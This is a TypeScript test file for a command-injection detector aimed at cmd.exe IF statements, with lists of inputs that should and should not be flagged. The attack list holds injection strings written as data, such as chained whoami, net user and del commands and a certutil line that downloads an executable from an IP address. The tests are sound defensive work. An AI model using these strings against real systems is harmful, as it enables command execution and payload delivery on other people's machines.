import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';
import { inspectValue } from '../../../src/threat/detectors/index.js';

const score = (s: string) => detectCmdi(decodeValue(s)).confidence;

describe('cmd.exe IF statement', () => {
  const attacks = [
    'if exist c:\\boot.ini type c:\\boot.ini', 'IF NOT EXIST out.txt copy nul out.txt', 'if errorlevel 1 goto fail', 'IF NOT ERRORLEVEL 2 del x.tmp',
    'if defined USERNAME echo %USERNAME%', 'IF NOT DEFINED tmp (set tmp=c:\\t)', 'if /i "%os%"=="windows_nt" whoami', 'if [%2]==[] net user',
    'if %a% lss 10 ping -n 1 10.0.0.1', 'IF x NEQ y start calc', 'if/i a==b dir', 'x & if 1==1 whoami', 'a|IF "%~2"=="" exit',
    '(if exist x.bat call x.bat)', 'if   not   exist   %temp%\\p.exe   certutil -urlcache -f http://203.0.113.9/p.exe',
    // a block is a ( block, and a command may follow a brace-wrapped operand
    'if "%1" == "x" (del x)', 'if {%1}=={} goto usage', 'if "%x%"=="y" whoami & {',
  ];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
  const benign = [
    'if not defined, the default is used', 'If defined here the value wins', 'if a == b: print(a)', 'if (a == b) return x;', 'if x == y then return end',
    'check if exist flag is set', 'if it does not exist, create it', 'if errorlevel is high, retry', 'If equal, keep both', 'if you like it, share it',
    'What if 2 == 2?', 'if not defined otherwise. See docs', 'if a == b', 'Gift ideas: if 1 == 2 surprise',
    // C-like code: a `{` block after the condition is no command cmd.exe could run
    'func init() {\n  if Environment == "production" {\n    logrus.SetFormatter(&logrus.JSONFormatter{})\n  }\n}',
    'if "%1" == "x" {', 'if exist {', '  if err == nil {\n    return\n  }',
  ];
  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));

  it('is read even when the value has no shell punctuation (the keyword opens it)', () => {
    const f = inspectValue('IF EXIST notes.txt DEL notes.txt').find((x) => x.family === 'cmdi');
    assert.ok(f && f.confidence >= 0.8, JSON.stringify(f));
  });

  it('reads a Windows path as cmd.exe does, not as \\n or \\t escapes', () => {
    assert.ok(score('IF NOT EXIST C:\\new\\tools ECHO missing') >= 0.8);
    assert.ok(score('for /r C:\\temp\\ %%f in (*.log) do del %%f') >= 0.8);
  });
});
